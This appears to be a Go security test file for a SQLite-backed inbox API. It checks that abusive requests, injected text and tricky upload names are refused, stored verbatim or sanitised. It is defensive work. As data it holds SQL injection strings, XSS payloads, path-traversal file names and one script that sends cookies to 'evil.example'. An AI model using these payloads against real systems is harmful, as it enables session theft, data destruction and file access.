package inboxapi_test

import (
	"bytes"
	"context"
	"database/sql"
	"encoding/json"
	"fmt"
	"mime/multipart"
	"net/http"
	"net/textproto"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	_ "modernc.org/sqlite" // the test reads the store's file directly

	"github.com/dakenh/dakenh/inboxapi"
	oc "github.com/dakenh/dakenh/omnichannel"
)

// trace is what a request may leave behind: the rows of every table of the SQLite file and the
// files of the blob directory.
type trace struct {
	rows  map[string]int
	blobs int
}

// snapshot reads the SQLite file (a separate read-only connection) and walks the blob directory.
func (s *sqliteAPI) snapshot(t *testing.T) trace {
	t.Helper()
	db, err := sql.Open("sqlite", "file:"+filepath.Join(s.dir, "inbox.db")+"?mode=ro")
	require.NoError(t, err)
	defer db.Close()
	names, err := db.Query(`SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%'`)
	require.NoError(t, err)
	var tables []string
	for names.Next() {
		var n string
		require.NoError(t, names.Scan(&n))
		tables = append(tables, n)
	}
	require.NoError(t, names.Err())
	names.Close()
	require.NotEmpty(t, tables)
	tr := trace{rows: map[string]int{}}
	for _, n := range tables {
		var c int
		require.NoError(t, db.QueryRow(`SELECT COUNT(*) FROM "`+n+`"`).Scan(&c))
		tr.rows[n] = c
	}
	_ = filepath.WalkDir(filepath.Join(s.dir, "blobs"), func(_ string, d os.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			tr.blobs++
		}
		return nil
	})
	return tr
}

// quietBus subscribes to every workspace's events; call the returned check when the requests are
// done: it fails t if anything was published.
func (s *sqliteAPI) quietBus(t *testing.T) func() {
	t.Helper()
	ctx, cancel := context.WithCancel(s.ctx)
	sub := s.eng.Subscribe(ctx, oc.SubscribeOptions{})
	return func() {
		t.Helper()
		defer cancel()
		select {
		case ev := <-sub.C:
			t.Fatalf("a refused request published %s", ev.Kind)
		case <-time.After(20 * time.Millisecond):
		}
	}
}

// abuseCase is a request the API must refuse with status and code, leaving no trace.
type abuseCase struct {
	name, method, path, contentType string
	body                            []byte
	status                          int
	code                            string
}

// TestAbusiveRequestsLeaveNoTrace: hostile bodies, types, encodings and filters against the API on
// a real SQLite file are refused with a stable code, and no row, blob or event results.
func TestAbusiveRequestsLeaveNoTrace(t *testing.T) {
	s := newSQLiteAPI(t)
	conv := "/conversations/" + s.convA[0]
	send := conv + "/messages"
	deep := `{"text":` + strings.Repeat("[", 20000) + strings.Repeat("]", 20000) + `,"idempotencyKey":"k"}`
	wide := `{"text":"x","idempotencyKey":"k","attachmentIds":[` + strings.Repeat(`"u.x.y",`, 60000) + `"u.x.y"]}`
	upload := func(name, ct string, data []byte) ([]byte, string) {
		var buf bytes.Buffer
		mw := multipart.NewWriter(&buf)
		h := textproto.MIMEHeader{}
		h.Set("Content-Disposition", fmt.Sprintf(`form-data; name="file"; filename="%s"`, name))
		h.Set("Content-Type", ct)
		w, _ := mw.CreatePart(h)
		_, _ = w.Write(data)
		_ = mw.Close()
		return buf.Bytes(), mw.FormDataContentType()
	}
	bigUpload, bigCT := upload("big.png", "image/png", pngBytes(64<<10+1))
	emptyUpload, emptyCT := upload("empty.png", "image/png", nil)
	cases := []abuseCase{
		{"send: deeply nested JSON", "POST", send, "application/json", []byte(deep), 400, "bad_request"},
		{"send: 60,000 forged attachment ids", "POST", send, "application/json", []byte(wide), 422, "invalid"},
		{"send: invalid UTF-8 text", "POST", send, "application/json", []byte("{\"text\":\"\xc3\x28\",\"idempotencyKey\":\"k\"}"), 400, "bad_request"},
		{"send: UTF-16 body", "POST", send, "application/json; charset=utf-16", []byte("\xff\xfe{\x00}\x00"), 400, "bad_request"},
		{"send: text/html", "POST", send, "text/html", []byte(`{"text":"x","idempotencyKey":"k"}`), 415, "unsupported_media_type"},
		{"send: XML", "POST", send, "application/xml", []byte(`<text>x</text>`), 415, "unsupported_media_type"},
		{"send: multipart", "POST", send, "multipart/form-data; boundary=x", []byte("--x--"), 415, "unsupported_media_type"},
		{"send: JSON null", "POST", send, "application/json", []byte(`null`), 422, "invalid"},
		{"send: over 1 MiB", "POST", send, "application/json", []byte(`{"text":"` + strings.Repeat("é", 600_000) + `","idempotencyKey":"k"}`), 413, "too_large"},
		{"send: script without idempotency key", "POST", send, "application/json", []byte(`{"text":"<script>alert(1)</script>"}`), 422, "invalid"},
		{"assign: SQL in the user id", "POST", conv + "/assign", "application/json", []byte(`{"userId":"a1' OR '1'='1"}`), 422, "invalid"},
		{"details: SQL in the category id", "PATCH", conv + "/details", "application/json", []byte(`{"categoryId":"x'); DELETE FROM conversations;--"}`), 422, "invalid"},
		{"conversation id with SQL", "GET", "/conversations/" + url.PathEscape("' OR 1=1 --"), "", nil, 404, "not_found"},
		{"conversation id with a NUL", "POST", "/conversations/" + url.PathEscape("x\x00y") + "/claim", "", nil, 404, "not_found"},
		{"message id path traversal", "POST", "/messages/" + url.PathEscape("../../conversations") + "/retry", "", nil, 404, "not_found"},
		{"attachment id traversal", "GET", "/attachments/" + url.PathEscape("m.0.../../../inbox.db"), "", nil, 404, "not_found"},
		{"attachment id forged upload", "GET", "/attachments/" + "u.eyJ3Ijoid3MtYSIsImsiOiIuLi8uLi9pbmJveC5kYiJ9.AAAA", "", nil, 404, "not_found"},
		{"search: NUL", "GET", "/conversations?q=" + url.QueryEscape("Robert\x00"), "", nil, 422, "invalid"},
		{"search: invalid UTF-8", "GET", "/conversations?q=%C3%28", "", nil, 422, "invalid"},
		{"search: 201 characters", "GET", "/conversations?q=" + strings.Repeat("%27", 201), "", nil, 422, "invalid"},
		{"list: SQL in the limit", "GET", "/conversations?limit=" + url.QueryEscape("1; DROP TABLE messages"), "", nil, 422, "invalid"},
		{"list: 40,000 channel filters", "GET", "/conversations?channel=" + strings.Repeat("fake,", 40000), "", nil, 422, "invalid"},
		{"list: 40,000 bad statuses", "GET", "/conversations?status=" + strings.Repeat("x,", 40000), "", nil, 422, "invalid"},
		{"unread: 40,000 assignees", "GET", "/conversations/unread-count?assignee=" + strings.Repeat("a1,", 40000), "", nil, 422, "invalid"},
		{"list: forged cursor", "GET", "/conversations?cursor=" + url.QueryEscape("' UNION SELECT * FROM users --"), "", nil, 422, "invalid"},
		{"upload: JSON", "POST", "/attachments", "application/json", []byte(`{"file":"x"}`), 415, "unsupported_media_type"},
		{"upload: over the limit", "POST", "/attachments", bigCT, bigUpload, 413, "too_large"},
		{"upload: empty file", "POST", "/attachments", emptyCT, emptyUpload, 422, "invalid"},
		{"upload: truncated multipart", "POST", "/attachments", bigCT, bigUpload[:300], 400, "bad_request"},
	}
	before := s.snapshot(t)
	check := s.quietBus(t)
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			rec := s.serve(c.method, c.path, supA, c.contentType, bytes.NewReader(c.body))
			require.Equal(t, c.status, rec.Code, "body: %s", rec.Body)
			var e inboxapi.ErrorResponse
			require.NoError(t, json.Unmarshal(rec.Body.Bytes(), &e), "body: %s", rec.Body)
			assert.Equal(t, c.code, e.Error.Code)
			assert.NotContains(t, e.Error.Message, "<script>", "the request is never echoed")
			assert.NotContains(t, e.Error.Message, "DROP TABLE")
		})
	}
	check()
	assert.Equal(t, before, s.snapshot(t), "a refused request left rows or files")
	t.Logf("abuse cases: %d (%s)", len(cases), "inboxapi refused requests (SQLite)")
}

// TestInjectionIsStoredAndReturnedAsData: SQL, markup and LIKE metacharacters in customer names,
// search and message text are stored and returned verbatim; searches find exactly what they name;
// no table changes shape and every other row survives.
func TestInjectionIsStoredAndReturnedAsData(t *testing.T) {
	s := newSQLiteAPI(t)
	before := s.snapshot(t)
	searches := map[string]int{ // search → conversations of A it must find
		"DROP TABLE":            1,
		"'); DROP":              1,
		"<script>":              1,
		`alert("x")`:            1,
		"100%":                  1,
		"%":                     1, // only the name holding a literal '%'
		"_off_":                 1,
		`\ '`:                   1,
		"' OR '1'='1":           0,
		"\" OR \"\"=\"":         0,
		"nguyễn văn":            1,
		"%' AND 1=1 --":         0,
		"*":                     0,
		"NEAR(a b)":             0,
		`"`:                     2,
		"0912 345 678":          0, // written in messages, but no contact has it as their phone
		"' UNION SELECT 1 --":   0,
		"a\") OR contact_name:": 0,
	}
	for q, want := range searches {
		for _, user := range []string{supA} {
			rec := s.get("/conversations?q="+url.QueryEscape(q), user)
			require.Equal(t, http.StatusOK, rec.Code, "q=%q: %s", q, rec.Body)
			var l inboxapi.ConversationList
			require.NoError(t, json.Unmarshal(rec.Body.Bytes(), &l))
			assert.Len(t, l.Items, want, "q=%q as %s", q, user)
			for _, c := range l.Items {
				assert.Contains(t, hostileNames, c.ContactName, "names come back verbatim")
			}
			rec = s.get("/conversations/unread-count?q="+url.QueryEscape(q), user)
			require.Equal(t, http.StatusOK, rec.Code, "q=%q: %s", q, rec.Body)
		}
	}
	assert.Equal(t, before, s.snapshot(t), "searches changed the store")

	// Hostile message text is data: stored and returned byte for byte.
	texts := []string{
		"'); DROP TABLE messages;--",
		`<script>document.location="https://evil.example/?c="+document.cookie</script>`,
		`<img src=x onerror=alert(1)>`,
		"%_\\ ' \" ` $1 ${x} {{ 7*7 }} {{",
		"x\u202eexe.pdf \u200b zero-width",
	}
	for i, text := range texts {
		body, _ := json.Marshal(inboxapi.SendRequest{Text: text, IdempotencyKey: fmt.Sprintf("inj-%d", i)})
		rec := s.post("/conversations/"+s.convA[0]+"/messages", supA, string(body))
		require.Equal(t, http.StatusAccepted, rec.Code, "%s", rec.Body)
	}
	rec := s.get("/conversations/"+s.convA[0]+"/messages", supA)
	require.Equal(t, http.StatusOK, rec.Code)
	var l inboxapi.MessageList
	require.NoError(t, json.Unmarshal(rec.Body.Bytes(), &l))
	var got []string
	for _, m := range l.Items {
		if m.Direction == "out" {
			got = append(got, m.Text)
		}
	}
	assert.Equal(t, texts, got)
	// The customer's own hostile name and text came back verbatim too, and every table is intact.
	for i, name := range hostileNames {
		rec := s.get("/conversations/"+s.convA[i], supA)
		require.Equal(t, http.StatusOK, rec.Code)
		assert.Contains(t, rec.Body.String(), mustJSON(t, name))
	}
	after := s.snapshot(t)
	assert.Equal(t, len(before.rows), len(after.rows), "tables appeared or vanished")
	for table, n := range before.rows {
		assert.GreaterOrEqual(t, after.rows[table], n, "rows of %s vanished", table)
	}
	rec = s.get("/conversations", supA)
	require.Equal(t, http.StatusOK, rec.Code)
	var all inboxapi.ConversationList
	require.NoError(t, json.Unmarshal(rec.Body.Bytes(), &all))
	assert.Len(t, all.Items, len(hostileNames), "the list still works")
	t.Logf("abuse cases: %d (%s)", 2*len(searches), "injection searches, list and unread count (SQLite)")
	t.Logf("abuse cases: %d (%s)", len(texts)+len(hostileNames), "hostile message texts and names (SQLite)")
}

func mustJSON(t *testing.T, v any) string {
	t.Helper()
	b, err := json.Marshal(v)
	require.NoError(t, err)
	return string(b)
}

// TestUploadNameAndContentTricks: hostile file names never reach the file system or the name agents
// see, and the content decides the type, whatever the name and the declared type say.
func TestUploadNameAndContentTricks(t *testing.T) {
	s := newSQLiteAPI(t)
	pdf := []byte("%PDF-1.4\n%âãÏÓ\n1 0 obj\n")
	html := []byte("<!DOCTYPE html><script>alert(1)</script>")
	exe := append([]byte("MZ\x90\x00\x03\x00\x00\x00"), bytes.Repeat([]byte{0}, 64)...)
	cases := []struct {
		name, file, declared string
		data                 []byte
		wantName, wantType   string
		wantKind             string
	}{
		{"dot-dot path", "../../../../etc/passwd.png", "image/png", pngBytes(100), "passwd.png", "image/png", "image"},
		{"windows path", `..\..\Windows\win.ini.png`, "image/png", pngBytes(100), "win.ini.png", "image/png", "image"},
		{"absolute path", "/var/lib/dakenh/inbox.db", "application/octet-stream", pdf, "inbox.db", "application/pdf", "file"},
		// A NUL cannot be in a MIME header: the multipart body is refused (wantKind "").
		{"NUL in the name", "a\x00.png", "image/png", pngBytes(100), "", "", ""},
		{"right-to-left override", "hoa-don\u202efdp.exe", "application/pdf", pdf, "hoa-donfdp.exe", "application/pdf", "file"},
		{"very long name", strings.Repeat("ả", 3000) + ".png", "image/png", pngBytes(100), strings.Repeat("ả", 116) + ".png", "image/png", "image"},
		{"only dots", "..", "image/png", pngBytes(100), "file", "image/png", "image"},
		{"HTML named .png", "anh.png", "image/png", html, "anh.png", "text/html", "file"},
		{"PDF named .jpg", "anh.jpg", "image/jpeg", pdf, "anh.jpg", "application/pdf", "file"},
		{"executable named .pdf", "bao-gia.pdf", "application/pdf", exe, "bao-gia.pdf", "application/pdf", "file"},
		{"PNG named .pdf", "bao-gia.pdf", "application/pdf", pngBytes(100), "bao-gia.pdf", "image/png", "image"},
	}
	blobs := filepath.Join(s.dir, "blobs")
	refused := 0
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			var buf bytes.Buffer
			mw := multipart.NewWriter(&buf)
			h := textproto.MIMEHeader{}
			h.Set("Content-Disposition", `form-data; name="file"; filename="`+strings.ReplaceAll(c.file, `"`, `\"`)+`"`)
			h.Set("Content-Type", c.declared)
			w, err := mw.CreatePart(h)
			require.NoError(t, err)
			_, _ = w.Write(c.data)
			require.NoError(t, mw.Close())
			rec := s.serve("POST", "/attachments", agent1, mw.FormDataContentType(), &buf)
			if c.wantKind == "" {
				require.Equal(t, http.StatusBadRequest, rec.Code, "%s", rec.Body)
				assert.Contains(t, rec.Body.String(), `"code":"bad_request"`)
				refused++
				return
			}
			require.Equal(t, http.StatusOK, rec.Code, "%s", rec.Body)
			var a inboxapi.AttachmentResponse
			require.NoError(t, json.Unmarshal(rec.Body.Bytes(), &a))
			assert.Equal(t, c.wantName, a.Attachment.Name)
			assert.Equal(t, c.wantKind, a.Attachment.Kind)
			if c.wantType == "application/pdf" && bytes.HasPrefix(c.data, []byte("MZ")) {
				// An executable is no PDF: the sniffer calls it octet-stream and the .pdf extension
				// names a document type, never an image or HTML.
				assert.NotContains(t, a.Attachment.ContentType, "image/")
			} else {
				assert.Equal(t, c.wantType, a.Attachment.ContentType)
			}
			// The download never runs in the browser.
			dl := s.get(a.Attachment.URL, agent1)
			require.Equal(t, http.StatusOK, dl.Code)
			assert.Equal(t, c.data, dl.Body.Bytes())
			assert.Equal(t, "nosniff", dl.Header().Get("X-Content-Type-Options"))
			assert.NotContains(t, dl.Header().Get("Content-Type"), "html")
			assert.NotContains(t, dl.Header().Get("Content-Disposition"), "/")
			assert.NotContains(t, dl.Header().Get("Content-Disposition"), "\u202e")
		})
	}
	// Every stored file is inside the blob directory, under the workspace's folder, named safely.
	n := 0
	require.NoError(t, filepath.WalkDir(s.dir, func(p string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() || strings.HasPrefix(filepath.Base(p), "inbox.db") {
			return err
		}
		n++
		rel, err := filepath.Rel(blobs, p)
		require.NoError(t, err)
		assert.False(t, strings.HasPrefix(rel, ".."), "a file outside the blob directory: %s", p)
		assert.Equal(t, wsA, filepath.Dir(rel), p)
		assert.Regexp(t, `^[0-9a-f]{24}-[A-Za-z0-9._-]{1,100}$`, filepath.Base(rel))
		return nil
	}))
	assert.Equal(t, len(cases)-refused, n)
	t.Logf("abuse cases: %d (upload names and mismatched contents)", len(cases))
}
